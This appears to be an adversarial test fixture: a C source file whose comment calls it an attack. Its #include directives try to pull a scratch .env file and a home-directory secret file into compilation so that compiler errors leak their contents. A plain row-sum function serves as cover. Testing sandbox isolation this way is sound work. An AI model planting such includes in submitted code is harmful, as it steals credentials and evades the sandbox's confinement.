// Attack: #include of files outside the package to leak them through compiler errors: the
// scratch .env by relative and absolute path and a secret file in $HOME.
#if __has_include("../../../../../.env")
#include "../../../../../.env"
#endif
#if __has_include("@SCRATCH@/.env")
#include "@SCRATCH@/.env"
#endif
#if __has_include("@HOME@/.kf_adv_secret")
#include "@HOME@/.kf_adv_secret"
#endif

void row_sums(const float* x, float* y, long rows, long cols) {
  for (long r = 0; r < rows; ++r) {
    float sum = 0.0f;
    for (long c = 0; c < cols; ++c) sum += x[r * cols + c];
    y[r] = sum;
  }
}
